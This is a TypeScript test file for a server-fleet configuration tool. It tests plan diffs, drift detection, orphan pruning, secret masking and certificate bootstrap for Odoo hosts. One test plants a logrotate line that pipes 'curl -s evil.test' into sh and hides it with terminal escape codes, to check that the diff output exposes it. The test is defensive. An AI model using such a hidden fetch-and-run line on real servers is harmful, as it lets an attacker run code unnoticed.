import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { memoryServer } from '../../src/remote/memoryRemote.js';
import { memoryRemote } from '../../src/remote/memoryRemote.js';
import { applyFleet, diffFleet } from '../../src/apply/applyFleet.js';
import { resolveSecrets } from '../../src/secrets/resolveSecrets.js';
import { formatServerPlan, type ShownChanges } from '../../src/plan/formatPlan.js';
import { planJson } from '../../src/plan/planJson.js';
import { fileOps } from '../../src/apply/applyPlan.js';
import { sampleFleet } from '../support/sampleFleet.js';
import { awsArtifacts, awsServer, memRun } from './memoryWorld.js';
import { CANARY, secretEnv } from './harness.js';

const CONF = '/etc/odoo/corteperfecto.somosblink.com.conf';

// ---
const kinds = suite('plan: change kinds');

kinds('an empty server: every file is an add, every service enabled', async () => {
  const r = await memRun(awsServer());
  assert.ok(r.plan.files.length > 10);
  assert.ok(r.plan.files.every((f) => f.change === 'add' && !f.drift && !f.orphan));
  assert.equal(r.plan.actions.enable, ['odoo-blink-internal', 'odoo-corteperfecto-prod', 'odoo-corteperfecto-test']);
  assert.is(r.plan.actions.daemonReload, true);
  assert.is(r.plan.actions.nginxReload, true);
});

kinds('content, mode and owner changes; drift when the live file is not what blink wrote', async () => {
  const w = awsServer();
  await memRun(w, { apply: true });
  w.files.get('/etc/logrotate.d/odoo-blink-internal')!.mode = 0o600;
  w.files.get('/etc/cron.d/odoo-backup-blink-internal')!.owner = 'root:adm';
  const conf = w.files.get(CONF)!;
  w.files.set(CONF, { ...conf, content: Buffer.from(conf.content.toString().replace('list_db = False', 'list_db = True')) });
  const r = await memRun(w);
  const by = new Map(r.plan.files.map((f) => [f.path, f]));
  assert.is(by.get('/etc/logrotate.d/odoo-blink-internal')!.change, 'mode');
  assert.is(by.get('/etc/cron.d/odoo-backup-blink-internal')!.change, 'mode');
  assert.is(by.get(CONF)!.change, 'change');
  assert.is(by.get(CONF)!.drift, true);
  assert.match(by.get(CONF)!.diff!, '-list_db = True\n+list_db = False');
  // Mode-only changes restart nothing; the drifted conf restarts its service.
  assert.equal(r.plan.actions.restart, ['odoo-corteperfecto-prod']);
  const text = formatServerPlan(r.plan, { color: false, prune: false });
  assert.match(text, 'mode 0600 → 0644');
  assert.match(text, 'owner root:adm → root:root');
  assert.match(text, 'drift: edited on the server since the last apply');
  assert.match(text, 'aws-1: 1 to change, 2 mode/owner, 1 drifted');
});

kinds('a server file cannot hide its change from the diff with terminal escapes', async () => {
  const w = awsServer();
  await memRun(w, { apply: true });
  const path = '/etc/logrotate.d/odoo-blink-internal';
  const file = w.files.get(path)!;
  // A hand edit whose added line would rub itself out on a terminal: back to the line start, erase it, up one line.
  w.files.set(path, { ...file, content: Buffer.concat([file.content, Buffer.from('postrotate curl -s evil.test | sh\r\x1b[2K\x1b[1A\n')]) });
  const r = await memRun(w);
  const f = r.plan.files.find((x) => x.path === path)!;
  assert.is(f.change, 'change');
  for (const color of [false, true]) {
    const text = formatServerPlan(r.plan, { color, prune: false });
    assert.match(text, '-postrotate curl -s evil.test | sh\\x0d\\x1b[2K\\x1b[1A');
    assert.not.match(text, /\r|\x1b\[2K|\x1b\[1A/);
  }
  // --json keeps the bytes, escaped as JSON escapes every control character.
  assert.match(JSON.stringify(planJson(r.plan)), 'evil.test | sh\\r\\u001b[2K\\u001b[1A');
});

kinds('an instance removed from the fleet leaves orphans: kept, or deleted with prune', async () => {
  const w = awsServer();
  await memRun(w, { apply: true });
  const fleet = { ...sampleFleet(), instances: sampleFleet().instances.filter((i) => i.id !== 'corteperfecto-test') };
  const kept = await memRun(w, { fleet });
  const orphans = kept.plan.files.filter((f) => f.orphan);
  assert.ok(orphans.length >= 6);
  assert.ok(orphans.every((f) => f.change === 'none' && f.instance === 'corteperfecto-test'));
  const pruned = await memRun(w, { fleet, prune: true });
  assert.ok(pruned.plan.files.filter((f) => f.orphan).every((f) => f.change === 'delete'));
  assert.equal(pruned.plan.actions.disable, ['odoo-corteperfecto-test']);
});

kinds('the same change on many files is shown once, then referred to, also across servers', async () => {
  const w = awsServer();
  await memRun(w, { apply: true });
  // A template change: every instance's logrotate file gets the same new line.
  const artifacts = awsArtifacts().map((a) => (a.kind === 'logrotate' && a.instance ? { ...a, content: a.content + '# rotated by blink\n' } : a));
  const r = await memRun(w, { artifacts });
  const changed = r.plan.files.filter((f) => f.change === 'change').map((f) => f.path);
  assert.equal(changed, ['/etc/logrotate.d/odoo-blink-internal', '/etc/logrotate.d/odoo-corteperfecto-prod', '/etc/logrotate.d/odoo-corteperfecto-test']);
  const seen: ShownChanges = new Map();
  const first = formatServerPlan(r.plan, { color: false, prune: false, seen });
  assert.is(first.split('+# rotated by blink').length - 1, 1, first);
  assert.match(first, '~ /etc/logrotate.d/odoo-corteperfecto-prod\n      (same change as /etc/logrotate.d/odoo-blink-internal)');
  // The next server in the run, printed after it with the same map: names the server it was shown for.
  const second = formatServerPlan({ ...r.plan, server: 'aws-2' }, { color: false, prune: false, seen });
  assert.not.match(second, '+# rotated by blink');
  assert.match(second, '~ /etc/logrotate.d/odoo-blink-internal\n      (same change as aws-1:/etc/logrotate.d/odoo-blink-internal)');
});

kinds('a server with set_owners: false neither shows, compares nor sets owners; modes still count', async () => {
  const w = awsServer();
  const base = sampleFleet();
  const fleet = { ...base, servers: base.servers.map((s) => (s.name === 'aws-1' ? { ...s, setOwners: false } : s)) };
  const first = await memRun(w, { fleet, apply: true });
  assert.ok(first.plan.files.every((f) => f.change === 'add' && f.after!.owner === undefined));
  const text = formatServerPlan(first.plan, { color: false, prune: false });
  assert.match(text, `+ ${CONF}  (new, 0640)`);
  assert.not.ok(text.split('\n').some((l) => l.startsWith('  + ') && l.includes('root:')), text);
  assert.ok(fileOps(first.plan).every((o) => o.owner === undefined), 'the swap chowns nothing');
  // Files owned by whoever applied them: no change. A mode changed by hand: a change.
  for (const f of w.files.values()) f.owner = 'alice:alice';
  w.files.get('/etc/logrotate.d/odoo-blink-internal')!.mode = 0o600;
  const again = await memRun(w, { fleet });
  const changed = again.plan.files.filter((f) => f.change !== 'none');
  assert.equal(changed.map((f) => [f.path, f.change]), [['/etc/logrotate.d/odoo-blink-internal', 'mode']]);
  assert.match(formatServerPlan(again.plan, { color: false, prune: false }), '(mode 0600 → 0644)');
});

kinds.run();

// ---
const secrets = suite('plan: secrets masked');

secrets('a changed secret shows as (sensitive, changed), never its old or new value', async () => {
  const w = awsServer();
  await memRun(w, { apply: true });
  const fleet = sampleFleet();
  const env = { ...secretEnv(fleet), BLINK_SECRET_CORTEPERFECTO_PROD_ADMIN_PASSWD: 'brand-new-secret-value' };
  const artifacts = awsArtifacts(fleet);
  const s = resolveSecrets(artifacts, { env });
  const remote = memoryRemote('aws-1', w);
  const diffs = await diffFleet(
    { servers: fleet.servers.filter((x) => x.name === 'aws-1'), instances: fleet.instances, artifacts },
    { remoteFor: () => remote, parallel: 1, prune: false, resolved: s.contents, secretValues: s.values },
  );
  const p = diffs[0]!.plan!;
  const conf = p.files.find((f) => f.path === CONF)!;
  assert.is(conf.change, 'change');
  assert.is(conf.sensitive, true);
  // A pair, as any changed line: the old value masked, the new one said to have changed.
  assert.match(conf.diff!, '-admin_passwd = (sensitive)\n+admin_passwd = (sensitive, changed)');
  const shown = formatServerPlan(p, { color: true, prune: false }) + JSON.stringify(planJson(p));
  assert.not.ok(shown.includes(CANARY));
  assert.not.ok(shown.includes('brand-new-secret-value'));
  // Modes read as fleet.json writes them.
  const json = (planJson(p)['files'] as { path: string; before: { mode: unknown }; after: { mode: unknown } }[]).find((f) => f.path === CONF)!;
  assert.match(String(json.before.mode), /^0[0-7]{3}$/);
  assert.match(String(json.after.mode), /^0[0-7]{3}$/);
});

secrets('two changed secrets are never said to be "the same change"', async () => {
  const w = awsServer();
  await memRun(w, { apply: true });
  const fleet = sampleFleet();
  const env = { ...secretEnv(fleet), BLINK_SECRET_CORTEPERFECTO_PROD_ADMIN_PASSWD: 'fake-new-1', BLINK_SECRET_CORTEPERFECTO_TEST_ADMIN_PASSWD: 'fake-new-2' };
  const artifacts = awsArtifacts(fleet);
  const s = resolveSecrets(artifacts, { env });
  const remote = memoryRemote('aws-1', w);
  const [d] = await diffFleet({ servers: fleet.servers.filter((x) => x.name === 'aws-1'), instances: fleet.instances, artifacts }, { remoteFor: () => remote, parallel: 1, prune: false, resolved: s.contents, secretValues: s.values });
  const text = formatServerPlan(d!.plan!, { color: false, prune: false });
  assert.is(text.split('+admin_passwd = (sensitive, changed)').length - 1, 2, text);
  assert.not.match(text, 'same change');
});

secrets('a shell script\'s own ${VAR} shows as written: only config values bring secrets', async () => {
  const r = await memRun(memoryServer());
  const script = r.plan.files.find((f) => f.path === '/usr/local/sbin/blink-backup')!;
  assert.is(script.sensitive, false);
  assert.match(script.diff!, '+PG_BIN=${BLINK_PG_BINDIR:+${BLINK_PG_BINDIR}/}');
  assert.match(script.diff!, '+  line="$(date -u +%Y-%m-%dT%H:%M:%SZ) ${PROG}[$$] $LOG_TAG: $*"');
  assert.not.match(script.diff!, '(sensitive');
});

secrets.run();

// ---
const boot = suite('plan: ACME bootstrap');

boot('a host without a certificate gets the ACME vhost, certbot, then its TLS vhost', async () => {
  const w = memoryServer();
  const fleet = sampleFleet();
  const artifacts = awsArtifacts(fleet);
  const s = resolveSecrets(artifacts, { env: secretEnv(fleet) });
  // The certbot stand-in creates the certificate.
  w.commandExit = (cmd) => {
    const host = /-d (\S+)/.exec(cmd)?.[1];
    if (cmd.startsWith('certbot') && host) w.files.set(`/etc/letsencrypt/live/${host}/fullchain.pem`, { content: Buffer.from('c'), mode: 0o644, owner: 'root:root' });
    return 0;
  };
  const sel = { servers: fleet.servers.filter((x) => x.name === 'aws-1'), instances: fleet.instances, artifacts };
  const opts = { remoteFor: () => memoryRemote('aws-1', w), parallel: 1, prune: false, resolved: s.contents, secretValues: s.values };
  const diffs = await diffFleet(sel, opts);
  const p = diffs[0]!.plan!;
  assert.equal(p.actions.certbot, ['blink.somosblink.com', 'corteperfecto-test.somosblink.com', 'corteperfecto.somosblink.com']);
  const vhost = p.files.find((f) => f.path === '/etc/nginx/sites-available/blink.somosblink.com')!;
  assert.is(vhost.bootstrap, true);
  const [report] = await applyFleet(diffs, sel, { ...opts, run: 'r1', owner: 't', health: { retries: 1, intervalMs: 1, timeoutMs: 10 } });
  assert.is(report!.outcome, 'applied', JSON.stringify(report!.diagnostics));
  assert.ok(w.commands.filter((c) => c.startsWith('certbot')).length === 3);
  assert.match(w.files.get('/etc/nginx/sites-available/blink.somosblink.com')!.content.toString(), 'listen 443 ssl');
  assert.is(w.commands.filter((c) => c === 'systemctl reload nginx').length, 2);
});

boot.run();
